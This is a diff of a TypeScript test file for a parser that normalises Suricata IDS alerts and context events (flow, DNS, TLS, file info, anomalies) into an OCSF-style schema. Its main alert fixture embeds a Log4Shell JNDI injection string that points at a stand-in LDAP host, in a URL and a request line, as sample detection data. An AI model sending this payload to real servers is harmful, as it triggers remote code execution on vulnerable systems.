@@ -1,4 +1,4 @@
-import { IdsAlertV1 } from "@vigil/schema";
+import { IdsAlertV1, IdsContextV1, idsRecordKey } from "@vigil/schema";
 import { describe, expect, it } from "vitest";
 import { NetworkSet } from "./network.ts";
 import {
@@ -85,38 +85,57 @@ describe("parseSuricataEve: alerts", () => {
     const alert = expectAlert(parseSuricataEve(line(log4shell), { now: fixedNow }));
     expect(alert).toMatchObject({
       schema: "vigil.ids.alert/v1",
-      time: "2024-01-17T10:52:17.542011+01:00",
-      observed_time: "2024-01-17T10:00:00.000Z",
-      product: "suricata",
-      sensor: "sensor-dmz-1",
-      src: { ip: "203.0.113.45", port: 51_234 },
-      dst: { ip: "10.20.3.40", port: 8080 },
-      asset_ip: "10.20.3.40",
-      direction: "inbound",
-      protocol: "tcp",
-      app_protocol: "http",
-      flow_id: "1530218453296374",
-      community_id: "1:jyzqoI6B8pdQjfMfK9MqhHwbZn8=",
-      signature: {
-        id: 2_034_647,
-        rev: 2,
-        gid: 1,
-        message: "ET EXPLOIT Apache log4j RCE Attempt (http ldap) (CVE-2021-44228)",
-        category: "Attempted Administrator Privilege Gain",
-        product_severity: 1,
+      class_uid: 2004,
+      type_uid: 200401,
+      time: Date.parse("2024-01-17T09:52:17.542Z"),
+      time_dt: "2024-01-17T10:52:17.542011+01:00",
+      metadata: {
+        version: "1.3.0",
+        product: { name: "Suricata", vendor_name: "OISF" },
+        log_name: "eve",
+        original_time: "2024-01-17T10:52:17.542011+0100",
+        processed_time: fixedNow().getTime(),
       },
-      action: "allowed",
+      device: { hostname: "sensor-dmz-1", interface_name: "ens192" },
+      src_endpoint: { ip: "203.0.113.45", port: 51_234 },
+      dst_endpoint: { ip: "10.20.3.40", port: 8080 },
+      asset_ip: "10.20.3.40",
+      connection_info: {
+        protocol_name: "tcp",
+        direction: "Inbound",
+        direction_id: 1,
+        uid: "1530218453296374",
+        community_uid: "1:jyzqoI6B8pdQjfMfK9MqhHwbZn8=",
+      },
+      app_protocol: "http",
+      finding_info: {
+        title: "ET EXPLOIT Apache log4j RCE Attempt (http ldap) (CVE-2021-44228)",
+        analytic: {
+          uid: "2034647",
+          name: "ET EXPLOIT Apache log4j RCE Attempt (http ldap) (CVE-2021-44228)",
+          type: "Rule",
+          type_id: 1,
+          category: "Attempted Administrator Privilege Gain",
+          version: "2",
+        },
+        types: ["Attempted Administrator Privilege Gain"],
+      },
+      unmapped: { gid: 1, priority: 1 },
+      action: "Allowed",
+      action_id: 1,
       severity: "high",
+      severity_id: 4,
       cves: ["CVE-2021-44228"],
       references: [],
-      http: {
-        hostname: "portal.corp.example",
-        url: `/?x=\${jndi:ldap://198.51.100.9:1389/a}`,
-        method: "GET",
+      http_request: {
+        http_method: "GET",
+        url: { hostname: "portal.corp.example", url_string: `/?x=\${jndi:ldap://198.51.100.9:1389/a}` },
       },
       payload_printable: `GET /?x=\${jndi:ldap://198.51.100.9:1389/a} HTTP/1.1`,
+      raw_data: line(log4shell),
     });
-    expect(alert.metadata.deployment).toEqual(["Perimeter", "Internal"]);
+    expect(alert.finding_info.uid).toBe(alert.id);
+    expect(alert.rule_metadata.deployment).toEqual(["Perimeter", "Internal"]);
     expect(alert.id).toMatch(/^ids-[0-9a-f]{64}$/);
   });
 
@@ -134,36 +153,38 @@ describe("parseSuricataEve: alerts", () => {
     const text = line(log4shell).replace('"flow_id":1530218453296374', '"flow_id":18446744073709551557');
     const twin = line(log4shell).replace('"flow_id":1530218453296374', '"flow_id":18446744073709551556');
     const alert = expectAlert(parseSuricataEve(text));
-    expect(alert.flow_id).toBe("18446744073709551557");
+    expect(alert.connection_info.uid).toBe("18446744073709551557");
     expect(expectAlert(parseSuricataEve(twin)).id).not.toBe(alert.id);
   });
 
   it.each([
-    ["203.0.113.45", "10.20.3.40", "inbound", "10.20.3.40"],
-    ["10.20.41.23", "198.51.100.20", "outbound", "10.20.41.23"],
-    ["10.20.41.23", "10.20.1.10", "internal", "10.20.1.10"],
-    ["203.0.113.45", "198.51.100.20", "external", "198.51.100.20"],
-    ["2001:db8:ffff::1", "fd00:20::5", "inbound", "fd00:20::5"],
+    ["203.0.113.45", "10.20.3.40", "Inbound", "10.20.3.40"],
+    ["10.20.41.23", "198.51.100.20", "Outbound", "10.20.41.23"],
+    ["10.20.41.23", "10.20.1.10", "Lateral", "10.20.1.10"],
+    ["203.0.113.45", "198.51.100.20", "Other", "198.51.100.20"],
+    ["2001:db8:ffff::1", "fd00:20::5", "Inbound", "fd00:20::5"],
   ])("classifies %s -> %s as %s with asset %s", (src, dst, direction, asset) => {
     const alert = expectAlert(parseSuricataEve(line({ ...log4shell, src_ip: src, dest_ip: dst })));
-    expect(alert.direction).toBe(direction);
+    expect(alert.connection_info.direction).toBe(direction);
     expect(alert.asset_ip).toBe(asset);
   });
 
   it("decides direction with the given home networks", () => {
     const homeNets = ["172.16.10.0/24"];
     const toDmz = expectAlert(parseSuricataEve(line({ ...log4shell, dest_ip: "172.16.10.5" }), { homeNets }));
-    expect(toDmz).toMatchObject({ direction: "inbound", asset_ip: "172.16.10.5" });
+    expect(toDmz).toMatchObject({ connection_info: { direction: "Inbound" }, asset_ip: "172.16.10.5" });
     // 10.20.3.40 is private but not in this deployment's home nets.
     const elsewhere = expectAlert(parseSuricataEve(line(log4shell), { homeNets: new NetworkSet(homeNets) }));
-    expect(elsewhere.direction).toBe("external");
+    expect(elsewhere.connection_info.direction).toBe("Other");
   });
 
   it("takes the sensor from the record's host, else from the options", () => {
-    expect(expectAlert(parseSuricataEve(line(log4shell), { sensor: "cli" })).sensor).toBe("sensor-dmz-1");
+    expect(expectAlert(parseSuricataEve(line(log4shell), { sensor: "cli" })).device.hostname).toBe(
+      "sensor-dmz-1",
+    );
     const { host: _host, ...withoutHost } = log4shell;
-    expect(expectAlert(parseSuricataEve(line(withoutHost), { sensor: "cli" })).sensor).toBe("cli");
-    expect(expectAlert(parseSuricataEve(line(withoutHost))).sensor).toBeUndefined();
+    expect(expectAlert(parseSuricataEve(line(withoutHost), { sensor: "cli" })).device.hostname).toBe("cli");
+    expect(expectAlert(parseSuricataEve(line(withoutHost))).device.hostname).toBeUndefined();
   });
 
   it("accepts an ICMP alert without ports, and a blocked action from IPS mode", () => {
@@ -171,10 +192,10 @@ describe("parseSuricataEve: alerts", () => {
     const alert = expectAlert(
       parseSuricataEve(line({ ...icmp, proto: "ICMP", alert: { ...log4shell.alert, action: "blocked" } })),
     );
-    expect(alert.src).toEqual({ ip: "203.0.113.45" });
-    expect(alert.protocol).toBe("icmp");
-    expect(alert.action).toBe("blocked");
-    expect(alert.http).toBeUndefined();
+    expect(alert.src_endpoint).toEqual({ ip: "203.0.113.45" });
+    expect(alert.connection_info.protocol_name).toBe("icmp");
+    expect(alert).toMatchObject({ action: "Denied", action_id: 2 });
+    expect(alert.http_request).toBeUndefined();
   });
 
   it("accepts the minimum Suricata writes for an alert", () => {
@@ -189,10 +210,12 @@ describe("parseSuricataEve: alerts", () => {
     const alert = expectAlert(parseSuricataEve(line(minimal)));
     expect(alert).toMatchObject({
       severity: "low",
+      severity_id: 2,
       cves: [],
-      metadata: {},
+      rule_metadata: {},
       references: [],
-      time: "2024-01-17T10:52:17.000000+00:00",
+      time: Date.parse("2024-01-17T10:52:17Z"),
+      time_dt: "2024-01-17T10:52:17.000000+00:00",
     });
   });
 
@@ -272,24 +295,116 @@ describe("time normalisation", () => {
 });
 
 describe("parseSuricataEve: other event types", () => {
-  it.each(["flow", "http", "dns", "tls", "ssh", "fileinfo", "stats", "anomaly", "netflow"])(
-    "ignores %s",
-    (eventType) => {
-      const result = parseSuricataEve(
-        line({ timestamp: "2024-01-17T10:52:17.542011+0100", event_type: eventType, flow_id: 1 }),
-      );
-      expect(result).toEqual({ status: "ignored", eventType });
-    },
-  );
+  it.each(["stats", "netflow", "smb", "dcerpc"])("counts %s as ignored", (eventType) => {
+    const result = parseSuricataEve(
+      line({ timestamp: "2024-01-17T10:52:17.542011+0100", event_type: eventType, flow_id: 1 }),
+    );
+    expect(result).toEqual({ status: "ignored", eventType });
+  });
+
+  it.each([
+    ["flow", 4001, { flow: { pkts_toserver: 3, bytes_toserver: 180, state: "closed", reason: "timeout" } }],
+    ["http", 4002, { http: { hostname: "www.corp.example", url: "/", http_method: "GET", status: 200 } }],
+    ["dns", 4003, { dns: { type: "query", rrname: "cdn-update.x7k2.top", rrtype: "A" } }],
+    ["tls", 4001, { tls: { sni: "cdn-update.x7k2.top", version: "TLS 1.2", ja3: { hash: "72a589da" } } }],
+    ["ssh", 4001, { ssh: { client: { software_version: "OpenSSH_8.9" }, server: { proto_version: "2.0" } } }],
+    [
+      "fileinfo",
+      4010,
+      {
+        fileinfo: { filename: "/update.exe", size: 73_802, sha256: "ab".repeat(32) },
+        http: { hostname: "x" },
+      },
+    ],
+  ])("keeps %s as a context event (class %i) with its own object as details", (eventType, classUid, own) => {
+    const record = {
+      timestamp: "2024-01-17T10:52:17.542011+0100",
+      flow_id: 77,
+      event_type: eventType,
+      src_ip: "10.20.42.101",
+      src_port: 50_123,
+      dest_ip: "203.0.113.200",
+      dest_port: 443,
+      proto: "TCP",
+      host: "sensor-core-1",
+      ...own,
+    };
+    const result = parseSuricataEve(line(record), { now: fixedNow });
+    if (result.status !== "context") throw new Error(`expected context, got ${JSON.stringify(result)}`);
+    const event = IdsContextV1.parse(result.event);
+    expect(event).toMatchObject({
+      event_type: eventType,
+      class_uid: classUid,
+      asset_ip: "10.20.42.101",
+      connection_info: { direction: "Outbound", protocol_name: "tcp", uid: "77" },
+      device: { hostname: "sensor-core-1" },
+      raw_data: line(record),
+    });
+    for (const [key, value] of Object.entries(own)) {
+      if (key === eventType) expect(event.details).toMatchObject(value as Record<string, unknown>);
+      else expect(event.details[key]).toEqual(value);
+    }
+    expect(parseSuricataEve(line(record), { context: false })).toEqual({ status: "ignored", eventType });
+  });
+
+  it("turns an anomaly into an informational alert named after its type and event", () => {
+    const anomaly = {
+      timestamp: "2024-03-12T09:35:40.198627+0100",
+      flow_id: 3_555_285_633_912_673,
+      event_type: "anomaly",
+      src_ip: "10.20.41.23",
+      src_port: 50_504,
+      dest_ip: "10.20.1.10",
+      dest_port: 445,
+      proto: "TCP",
+      app_proto: "smb",
+      host: "sensor-core-1",
+      anomaly: {
+        app_proto: "smb",
+        type: "applayer",
+        event: "INVALID_NEGOTIATE_REQUEST",
+        layer: "proto_parser",
+      },
+    };
+    const alert = expectAlert(parseSuricataEve(line(anomaly)));
+    expect(alert).toMatchObject({
+      severity: "informational",
+      severity_id: 1,
+      asset_ip: "10.20.1.10",
+      finding_info: {
+        title: "Suricata applayer anomaly INVALID_NEGOTIATE_REQUEST (smb)",
+        analytic: { uid: "anomaly:applayer:INVALID_NEGOTIATE_REQUEST", type: "Behavioral" },
+      },
+    });
+    // A decoder anomaly has no flow: no endpoints, no asset; the sensor keys it.
+    const decoder = expectAlert(
+      parseSuricataEve(
+        line({
+          timestamp: "2024-03-12T09:35:40.198627+0100",
+          event_type: "anomaly",
+          host: "sensor-core-1",
+          anomaly: { type: "decode", event: "decoder.ipv4.trunc_pkt" },
+        }),
+      ),
+    );
+    expect(decoder.src_endpoint).toBeUndefined();
+    expect(decoder.asset_ip).toBeUndefined();
+    expect(idsRecordKey(decoder)).toBe("sensor-core-1");
+    expectInvalid(
+      parseSuricataEve(line({ ...anomaly, anomaly: { type: "applayer" } })),
+      "schema",
+      "anomaly.event: expected string",
+    );
+  });
 
   it("does not call a record without a valid timestamp 'ignored'", () => {
     expectInvalid(
-      parseSuricataEve(line({ event_type: "flow" })),
+      parseSuricataEve(line({ event_type: "stats" })),
       "schema",
       "timestamp: expected string, got nothing (missing)",
     );
     expectInvalid(
-      parseSuricataEve(line({ timestamp: "yesterday", event_type: "dns" })),
+      parseSuricataEve(line({ timestamp: "yesterday", event_type: "stats" })),
       "schema",
       "timestamp: expected a time like",
     );
